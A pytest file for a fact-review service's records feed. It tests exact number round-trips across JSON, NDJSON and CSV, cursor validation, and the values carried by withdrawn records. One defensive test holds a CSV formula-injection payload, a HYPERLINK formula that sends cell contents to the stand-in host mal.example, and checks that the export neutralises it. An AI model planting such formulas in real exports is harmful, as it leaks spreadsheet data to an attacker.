"""What the feed hands out is what was reviewed: numbers digit for digit on both databases,
text cells a spreadsheet cannot run, and no cursor that would silently skip changes."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given, settings, strategies as st
from sqlalchemy import Engine, select, update

from service.feed.records import FORMULA_STARTS
from service.storage.db import write_engine
from service.storage.models import Extraction, Initiative
from tests.service.conftest import auth
from tests.service.helpers import records, review

EXACT_NUMBERS = st.one_of(
    st.floats(min_value=0, allow_nan=False, allow_infinity=False),  # 17 significant digits when needed
    st.integers(min_value=0, max_value=10**30 - 1),  # past 2^63 and 2^64
    st.sampled_from([0.30000000000000004, 2**63, 2**64 + 1, 1e308, 5e-324, 1500.0, 123456789.12345679]),
)


def _fact(items: list[dict[str, Any]], kind: str) -> dict[str, Any]:
    return next(i for i in items if i["kind"] == kind)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(number=EXACT_NUMBERS)
def test_corrected_numbers_round_trip_exactly(client: TestClient, tokens: dict[str, str], items,  # type: ignore[no-untyped-def]
                                              number: int | float) -> None:
    """Through the review API, the fact API and the feed in its three formats."""
    money = _fact(items, "money")
    current = client.get(f"/api/v1/extractions/{money['id']}", headers=auth(tokens["reviewer"])).json()
    cursor = records(client, tokens["consumer"], since="0")[1] if current["version"] > 1 else "0"
    answer = review(client, tokens["reviewer"], money["id"], "correct", current["version"], value=number)
    assert answer.status_code == 200, answer.text
    assert repr(answer.json()["value"]) == repr(number)
    shown = client.get(f"/api/v1/extractions/{money['id']}", headers=auth(tokens["reviewer"])).json()
    assert repr(shown["value"]) == repr(number)
    fed, _ = records(client, tokens["consumer"], since=cursor)
    assert [repr(r["value"]) for r in fed] == [repr(number)]
    ndjson = client.get("/api/v1/records", headers=auth(tokens["consumer"]), params={"since": cursor, "format": "ndjson"})
    assert ndjson.text.count("\n") == 1 and f'"value":{_json_number(number)},' in ndjson.text
    text = client.get("/api/v1/records", headers=auth(tokens["consumer"]), params={"since": cursor, "format": "csv"}).text
    assert [row["value"] for row in csv.DictReader(io.StringIO(text))] == [_json_number(number)]


def _json_number(number: int | float) -> str:
    return repr(number)  # what json.dumps writes for a finite float or an int


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(client: TestClient, tokens: dict[str, str], items,  # type: ignore[no-untyped-def]
                                                                engine: Engine, start: str) -> None:
    formula = f'{start}HYPERLINK("http://mal.example/?x="&A1;"ver")'
    count = _fact(items, "count")
    with write_engine(engine).begin() as conn:
        conn.execute(update(Extraction).where(Extraction.id == count["id"]).values(unit=formula, text=formula, name=formula))
        of_fact = select(Extraction.initiative_id).where(Extraction.id == count["id"]).scalar_subquery()
        conn.execute(update(Initiative).where(Initiative.id == of_fact).values(title=formula))
    assert review(client, tokens["reviewer"], count["id"], "confirm", 1).status_code == 200
    text = client.get("/api/v1/records", headers=auth(tokens["consumer"]), params={"format": "csv"}).text
    [row] = list(csv.DictReader(io.StringIO(text)))
    for field in ("unit", "text", "name", "initiative_title"):
        assert row[field] == "'" + formula
    assert not any(cell.startswith(FORMULA_STARTS) for cell in row.values() if cell)
    fed, _ = records(client, tokens["consumer"])  # JSON is data, not a spreadsheet: left as it is
    assert fed[0]["unit"] == formula


def test_negative_numbers_in_csv_stay_numbers(client: TestClient, tokens: dict[str, str], items,  # type: ignore[no-untyped-def]
                                              engine: Engine) -> None:
    count = _fact(items, "count")
    with write_engine(engine).begin() as conn:
        conn.execute(update(Extraction).where(Extraction.id == count["id"]).values(value=-12.5))
    review(client, tokens["reviewer"], count["id"], "confirm", 1)
    text = client.get("/api/v1/records", headers=auth(tokens["consumer"]), params={"format": "csv"}).text
    assert [row["value"] for row in csv.DictReader(io.StringIO(text))] == ["-12.5"]


@pytest.mark.parametrize("fmt", ["json", "ndjson", "csv"])
def test_a_cursor_ahead_of_the_head_is_refused_naming_the_head(client: TestClient, tokens: dict[str, str], items,  # type: ignore[no-untyped-def]
                                                               fmt: str) -> None:
    for item in items[:2]:
        review(client, tokens["reviewer"], item["id"], "confirm", 1)
    _, head = records(client, tokens["consumer"])
    assert head == "2"
    ahead = client.get("/api/v1/records", headers=auth(tokens["consumer"]), params={"since": "999999", "format": fmt})
    assert ahead.status_code == 409 and "head (2)" in ahead.json()["detail"] and ahead.headers["x-feed-head"] == "2"
    just_ahead = client.get("/api/v1/records", headers=auth(tokens["consumer"]), params={"since": "3"})
    assert just_ahead.status_code == 409
    assert records(client, tokens["consumer"], since=head) == ([], head)


@pytest.mark.parametrize("steps", [
    [("confirm", {})],
    [("correct", {"value": 255767, "unit": "pessoas atendidas"})],
    [("confirm", {}), ("correct", {"value": 300000, "qualifier": "approx"})],
    [("correct", {"value": 255767}), ("reject", {})],
])
@pytest.mark.parametrize("withdrawal", ["reopen", "reject"])
def test_a_withdrawn_record_names_the_value_that_was_published(client: TestClient, tokens: dict[str, str], items,  # type: ignore[no-untyped-def]
                                                               steps: list[tuple[str, dict[str, Any]]],
                                                               withdrawal: str) -> None:
    """Whatever the decisions before it, the withdrawal carries the last published value,
    never the extracted one a reopen restores."""
    count, reviewer, consumer = _fact(items, "count"), tokens["reviewer"], tokens["consumer"]
    version, published = 1, None
    for action, body in steps:
        answer = review(client, reviewer, count["id"], action, version, **body)
        assert answer.status_code == 200, answer.text
        version += 1
        if action in ("confirm", "correct"):
            published = {f: answer.json()[f] for f in ("value", "unit", "qualifier")}
    fed, cursor = records(client, consumer)
    answer = review(client, reviewer, count["id"], withdrawal, version)
    if answer.status_code == 409 or (fed and fed[-1]["state"] == "withdrawn" and withdrawal == "reject"):
        pytest.skip("a rejected fact is not rejected again")
    assert answer.status_code == 200, answer.text
    fed, _ = records(client, consumer, since=cursor)
    assert [r["state"] for r in fed] == ["withdrawn"]
    assert {f: fed[0][f] for f in ("value", "unit", "qualifier")} == published
    text = client.get("/api/v1/records", headers=auth(consumer), params={"since": cursor, "format": "csv"}).text
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["value"] == repr(published["value"]) and row["unit"] == (published["unit"] or "")
